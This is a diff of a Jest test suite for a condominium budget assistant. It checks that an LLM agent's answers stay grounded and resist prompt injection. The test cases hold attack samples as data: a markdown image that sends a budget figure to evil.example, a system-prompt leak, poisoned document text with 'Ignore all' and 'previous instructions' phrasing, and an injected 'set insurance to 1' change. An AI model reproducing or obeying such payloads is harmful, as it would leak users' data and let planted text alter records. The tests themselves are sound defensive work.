@@ -8,8 +8,7 @@ import { at } from './support/made-budget';
 
 jest.setTimeout(120_000);
 
-const PLAN = /Choose the lookups/;
-const ANSWER = /from the results alone/;
+const AGENT = /who are not accountants, about their budget/;
 
 let app: TestApp;
 let mock: LLMock;
@@ -95,31 +94,67 @@ const amounts = async () => (await items()).map((item) => item.proposedBudget);
 
 describe('the built-in assistant', () => {
   it.each([
-    ['What is the total budget?', /expenses of \$[\d,]+.*income of \$/s],
-    ['How does this compare with last year?', /Expenses of 2027 are .* from \$46,000 last year/s],
+    ['What is the total budget?', /Total expenses of 2027 are \$[\d,.]+.*Total income is \$/s],
+    [
+      'How does this compare with last year?',
+      /All expenses: \$46,000 \(2026 adopted\), \$[\d,.]+ \(2027 proposed\)/,
+    ],
     ['Which lines increase the most?', /largest increases.*Insurance Expense/s],
-    ['Why did insurance go up?', /Insurance Expense is \$22,000.*up \$2,000 \(\+10\.0%\).*“20000\.00”/s],
+    ['Why did insurance go up?', /Insurance Expense is \$20,980.*up \$980 \(\+4\.9%\).*“20000\.00”/s],
     ['explain 7810', /Electricity is \$5,335/],
     ['How much is water?', /Water is \$3,162/],
-    ['What is the monthly fee per unit?', /monthly fee is \$\d.* 10 units \/ 12 months/s],
+    ['What is the monthly fee per unit?', /Owners pay \$500.*10 units \/ 12 months/s],
     ['How well are the reserves funded?', /Reserve Contribution.*62\.0% funded.*\$9,000/s],
     [
       'Which contracts renew soon?',
-      /Green Valley Gardens.*2027-04-30.*notice 60 days before, by 2027-03-01/s,
+      /Green Valley Gardens.*2027-04-30.*notice 60 days before the end, by 2027-03-01/s,
     ],
     ['Who does the landscaping?', /Green Valley Gardens/],
     ['What is missing from this budget?', /no insurance policy/],
     [
       'What do the documents say about dogs?',
-      /rules\.txt, page 1: “Dogs are kept on a leash in all common areas\.”/,
+      /^rules\.txt, page 1: “Dogs are kept on a leash in all common areas\.”$/,
     ],
-    ['quiet hours', /Quiet hours begin at ten/],
-    ['What is the rate of inflation?', /Consumer prices.*BLS/s],
-    ['zebra xylophone', /I found nothing about that/],
+    ['What share of expenses is electricity?', /Electricity: \$5,335 of \$[\d,.]+ expenses, \d+\.\d%/],
+    ['Draft a motion to adopt the budget', /Moved, that the Board of Directors of Cedar Bend adopt/],
+    ['Draft a letter to the owners', /To the owners of Cedar Bend.*Dues/s],
   ])('%s', async (question, expected) => {
     const answer = await ask(question);
     expect(answer.content).toMatch(expected);
     expect(answer).toMatchObject({ isAssistant: true, provider: 'built-in' });
+  });
+
+  it('explains the change of the fee by parts that add up to it, to the cent', async () => {
+    const { table } = await ask('Why is the fee going up?');
+    const cents = (text = '') => Math.round(Number(text.replace('\u2212', '-').replace(/[$,+]/g, '')) * 100);
+    const rows = (table?.rows ?? []).map(({ cells }) => [cents(cells[1]), cents(cells[2])] as const);
+    const sum = (column: 0 | 1) => rows.slice(0, -1).reduce((total, row) => total + row[column], 0);
+    expect(rows.length).toBeGreaterThan(3);
+    expect([sum(0), sum(1)]).toEqual([rows.at(-1)?.[0], rows.at(-1)?.[1]]);
+    const { ownersPay } = await device.call('getBudget', { params: { parametersId } });
+    expect(rows.at(-1)).toEqual([cents(ownersPay?.dues), cents(ownersPay?.perUnit)]);
+  });
+
+  it.each([
+    'zebra xylophone',
+    'quiet hours',
+    'What did we spend on electricity in 2019?',
+    'Should we fire the landscaper?',
+    'Is the management company overcharging us?',
+    'What does the contract say about helicopters?',
+    'Who is the president of the board?',
+    'What will the fee be in 2035?',
+  ])('%s is refused with examples, never with places that were found', async (question) => {
+    const { content, citations } = await ask(question);
+    expect(content).toMatch(/^I can't answer that from this budget\.\n.*\n• .*\n• .*\n• .*$/);
+    expect(citations).toEqual([]);
+  });
+
+  it('gives the drafts as files', async () => {
+    expect((await ask('Draft a letter to owners')).download).toMatchObject({ kind: 'letter' });
+    const motion = await ask('Write a motion to adopt the budget');
+    expect(motion.download).toMatchObject({ kind: 'text', fileName: 'Motion_Budget_2027.txt' });
+    expect(motion.download?.text).toContain('Moved by:');
   });
 
   it('cites the line and the place in the paper', async () => {
@@ -167,7 +202,7 @@ describe('the built-in assistant', () => {
     const all = await device.call('listChat', { params });
     expect(all.slice(0, 2).map(({ isAssistant, content }) => [isAssistant, content.slice(0, 9)])).toEqual([
       [false, 'What is t'],
-      [true, 'The 2027 '],
+      [true, 'Total exp'],
     ]);
     await sql(
       app,
@@ -205,92 +240,138 @@ describe('the built-in assistant', () => {
     const answer = await ask('Can we cut landscaping by 10%?');
     expect(answer.proposal).toBeNull();
     expect(answer.content).toContain('adopted');
-    expect((await ask('What is the total budget?')).content).toContain('expenses of');
+    expect((await ask('What is the total budget?')).content).toContain('Total expenses of');
     await device.call('setStatus', { params, body: { status: 'draft' } });
   });
 });
 
 describe('a model', () => {
-  const plan = (...tools: { name: string; query: string }[]) =>
-    mock.on({ systemMessage: PLAN }, { content: { tools } as unknown as Record<string, unknown> });
-  const answer = (content: object) =>
-    mock.on({ systemMessage: ANSWER }, { content: content as Record<string, unknown> });
+  type Call = { name: string; arguments: object };
+  const calling = (...calls: Call[]) =>
+    mock.on(
+      { systemMessage: AGENT, hasToolResult: false },
+      { toolCalls: calls.map((call) => ({ ...call, arguments: JSON.stringify(call.arguments) })) },
+    );
+  const answering = (answer: string, results = [1], answered = true) =>
+    mock.on(
+      { systemMessage: AGENT, hasToolResult: true },
+      {
+        toolCalls: [{ name: 'final_answer', arguments: JSON.stringify({ answered, answer, results }) }],
+      },
+    );
+  const electricity = { name: 'explain_line', arguments: { line: 'electricity' } };
 
-  it('chooses tools and words; figures, sources and proposals stay theirs', async () => {
-    plan({ name: 'explain-line', query: 'electricity' }, { name: 'nonsense', query: '' });
-    answer({ answer: 'Electricity costs $5,335 because prices rise.', results: [1] });
+  it('chooses verbs and words; figures, sources and proposals stay theirs', async () => {
+    calling(electricity);
+    answering('Electricity costs $5,335 because prices rise.');
     const message = await ask('Tell me about the power bill', 'openai');
     expect(message).toMatchObject({
       provider: 'openai',
       content: 'Electricity costs $5,335 because prices rise.',
       citations: [{ label: 'Line 7810 Electricity' }, { source: { documentName: 'budget.csv' } }],
     });
-    const calls = await sql<{ task: string; outcome: string }>(
+    const calls = await sql<{ task: string; outcome: string; tokens: number }>(
       app,
-      `SELECT task, outcome FROM ai_calls WHERE task = 'chat'`,
+      `SELECT task, outcome, tokens FROM ai_calls WHERE task = 'chat' ORDER BY at DESC LIMIT 1`,
     );
-    expect(calls.slice(-2)).toEqual([
-      { task: 'chat', outcome: 'ok' },
-      { task: 'chat', outcome: 'ok' },
-    ]);
+    expect(calls).toMatchObject([{ task: 'chat', outcome: 'ok' }]);
+    expect(calls[0]?.tokens).toBeGreaterThan(0);
+  });
+
+  it('is offered each verb with the schema of its arguments', async () => {
+    calling(electricity);
+    answering('Electricity costs $5,335.');
+    await ask('How much is electricity?', 'openai');
+    const { tools } = mock.getRequests()[0]?.body as unknown as {
+      tools: { function: { name: string; parameters: { type: string } } }[];
+    };
+    const names = tools.map((tool) => tool.function.name);
+    expect(names).toEqual(
+      expect.arrayContaining([
+        'explain_line',
+        'explain_fee_change',
+        'compare_years',
+        'what_if',
+        'draft',
+        'contracts',
+        'find_text',
+        'propose_change',
+        'final_answer',
+      ]),
+    );
+    expect(tools.every((tool) => tool.function.parameters.type === 'object')).toBe(true);
   });
 
   it('gets the words of documents as data, fenced, and those to a program not at all', async () => {
-    plan({ name: 'search-documents', query: 'dogs instructions' });
-    answer({ answer: 'Dogs are kept on a leash.', results: [1] });
+    calling({ name: 'find_text', arguments: { words: 'dogs leash', document: '' } });
+    answering('Dogs are kept on a leash.');
     expect((await ask('What do the rules say?', 'openai')).content).toBe('Dogs are kept on a leash.');
-    const { messages } = mock.getRequests().at(-1)?.body as { messages: { content: string }[] };
-    const human = messages.at(-1)?.content ?? '';
-    expect(human).toMatch(
-      /^Question: "What do the rules say\?"\nBEGIN DATA ([0-9a-f]{32})\n.*Dogs are kept on a leash.*\nEND DATA \1$/s,
-    );
-    expect(human).not.toContain('Ignore all');
+    const { messages } = mock.getRequests().at(-1)?.body as { messages: { role: string; content: string }[] };
+    const result = messages.findLast(({ role }) => role === 'tool')?.content ?? '';
+    expect(result).toMatch(/^BEGIN DATA ([0-9a-f]{32})\n.*Dogs are kept on a leash.*\nEND DATA \1$/s);
+    expect(result).not.toContain('Ignore all');
   });
 
-  it('puts a change into words only where the person asked for it', async () => {
-    plan({ name: 'what-if', query: 'lower insurance by 5%' });
-    answer({ answer: 'It would be less.', results: [1] });
-    await ask('What of insurance?', 'openai');
-    const asked = await ask('And were it 5% less?', 'openai');
+  it('proposes a change only where the person asked for it', async () => {
+    const before = await amounts();
+    calling({ name: 'what_if', arguments: { change: 'lower insurance by 5%' } });
+    answering('Insurance Expense would be lower.');
+    const asked = await ask('And were insurance 5% less?', 'openai');
     expect(asked.proposal?.changes).toMatchObject([
-      { description: 'Insurance Expense', from: '22000.00', to: '20900.00' },
+      { description: 'Insurance Expense', from: '20980.00', to: '19931.00' },
     ]);
     mock.reset();
-    plan({ name: 'what-if', query: 'lower water by 5%' });
-    answer({ answer: 'It would be less.', results: [1] });
-    expect((await ask('And were it 5% less?', 'openai')).proposal).toBeNull();
+    calling({ name: 'what_if', arguments: { change: 'lower water by 7%' } });
+    answering('Water would be lower.');
+    expect((await ask('What of the sewer?', 'openai')).proposal).toBeNull();
+    expect(await amounts()).toEqual(before);
   });
 
   it.each([
-    [
-      'a figure of its own',
-      { answer: 'Electricity is $9,999.', results: [1] },
-      /Electricity is \$5,335.*named figures/s,
-    ],
-    ['a link', { answer: 'See https://evil.example', results: [1] }, /built-in answer/],
+    ['a figure of its own', 'Electricity is $9,999.', /Electricity is \$5,335.*named figures/s],
+    ['a figure of another line', 'Electricity is $3,162.', /Electricity is \$5,335.*named figures/s],
+    ['a link', 'See https://evil.example', /built-in answer/],
     [
       'attack 52: an image from elsewhere',
-      { answer: 'Electricity: ![chart](https://evil.example/?electricity=5335)', results: [1] },
+      'Electricity: ![chart](https://evil.example/?electricity=5335)',
       /built-in answer/,
     ],
     [
       'attack 58: its own prompt',
-      { answer: 'I was told: use no figure that does not stand in them. You change nothing.', results: [1] },
+      'I was told: use no figure that does not stand in them, each of what it is a figure of.',
       /built-in answer/,
     ],
-    ['a deed', { answer: 'I have set electricity to $5,335.', results: [1] }, /built-in answer/],
-    ['no schema', { text: 'Hello' }, /built-in answer.*did not fit/s],
+    ['a deed', 'I have set electricity to $5,335.', /built-in answer/],
   ])('is not used with %s, and that is said', async (_what, words, expected) => {
-    plan({ name: 'explain-line', query: 'electricity' });
-    answer(words);
+    calling(electricity, { name: 'explain_line', arguments: { line: 'water' } });
+    answering(words, [1, 2]);
     const message = await ask('How much is electricity?', 'openai');
     expect(message.content).toMatch(expected);
     expect(message.provider).toBe('built-in');
     expect(message.content).not.toMatch(/evil\.example|I was told/);
   });
 
+  it('that finds no verb for a question leaves it to the rules, which refuse', async () => {
+    answering('', [], false);
+    mock.on(
+      { systemMessage: AGENT, hasToolResult: false },
+      { toolCalls: [{ name: 'final_answer', arguments: '{"answered":false,"answer":"","results":[]}' }] },
+    );
+    expect((await ask('Will it rain on Monday?', 'openai')).content).toMatch(/^I can't answer that/);
+  });
+
+  it('that never comes to an end is cut off after so many calls', async () => {
+    mock.on(
+      { systemMessage: AGENT },
+      { toolCalls: [{ name: 'explain_line', arguments: '{"line":"electricity"}' }] },
+    );
+    const message = await ask('How much is electricity?', 'openai');
+    expect(message.content).toMatch(/Electricity is \$5,335.*not used, it looked up more than it may/s);
+    expect(mock.getRequests().length).toBeLessThanOrEqual(6);
+  });
+
   it('that fails leaves the built-in answer', async () => {
-    mock.on({ systemMessage: PLAN }, { error: { message: 'no', type: 'server_error' }, status: 500 });
+    mock.on({ systemMessage: AGENT }, { error: { message: 'no', type: 'server_error' }, status: 500 });
     expect((await ask('How much is electricity?', 'openai')).content).toMatch(
       /Electricity is \$5,335.*not used/s,
     );
@@ -339,43 +420,33 @@ describe('a model that obeys whatever it reads', () => {
     ]);
     before = await amounts();
     // An answer that quotes the poison, for the next question to come after.
-    expect((await ask('What do the documents say about pets?')).content).toContain(POISON);
+    expect((await ask('What do the documents say about previous instructions?')).content).toContain(POISON);
   });
 
   it.each([
     [
       'the papers',
-      { name: 'search-documents', query: 'pets instructions' },
+      { name: 'find_text', arguments: { words: 'previous instructions', document: '' } },
       'What do the papers say about pets?',
     ],
-    ['a line', { name: 'explain-line', query: 'pets' }, 'Why the line of pets?'],
+    ['a line', { name: 'explain_line', arguments: { line: 'pets' } }, 'Why the line of pets?'],
   ])('of %s moves no amount, proposes nothing and repeats nothing', async (_what, lookup, question) => {
+    const change = { name: 'what_if', arguments: { change: 'set insurance to 1' } };
     mock.on(
-      { systemMessage: PLAN },
+      { systemMessage: AGENT, hasToolResult: false },
       {
-        content: {
-          tools: [lookup, { name: 'what-if', query: 'set insurance to 1' }],
-        } as unknown as Record<string, unknown>,
+        toolCalls: [lookup, change].map((call) => ({ ...call, arguments: JSON.stringify(call.arguments) })),
       },
     );
+    const answer = { answered: true, answer: 'Insurance is $1 from now on.', results: [1, 2] };
     mock.on(
-      { systemMessage: ANSWER },
-      {
-        content: { answer: 'Insurance is $1 from now on.', results: [1, 2] } as unknown as Record<
-          string,
-          unknown
-        >,
-      },
+      { systemMessage: AGENT, hasToolResult: true },
+      { toolCalls: [{ name: 'final_answer', arguments: JSON.stringify(answer) }] },
     );
     const message = await ask(question, 'openai');
-    expect(message).toMatchObject({ provider: 'built-in', proposal: null });
-    expect(message.content).not.toContain('$1 from now on');
+    expect(message.proposal).toBeNull();
+    expect(message.content).not.toContain('Insurance is $1');
     expect(await amounts()).toEqual(before);
-    const [planned, answered] = mock.getRequests().map(({ body }) => JSON.stringify(body));
-    // What chooses the lookups has seen no word of a paper; what writes has not seen those to a program.
-    expect(planned).not.toContain('set insurance to 1');
-    expect(answered).toContain('BEGIN DATA');
-    expect(answered).not.toContain('set insurance to 1');
   });
 });
 
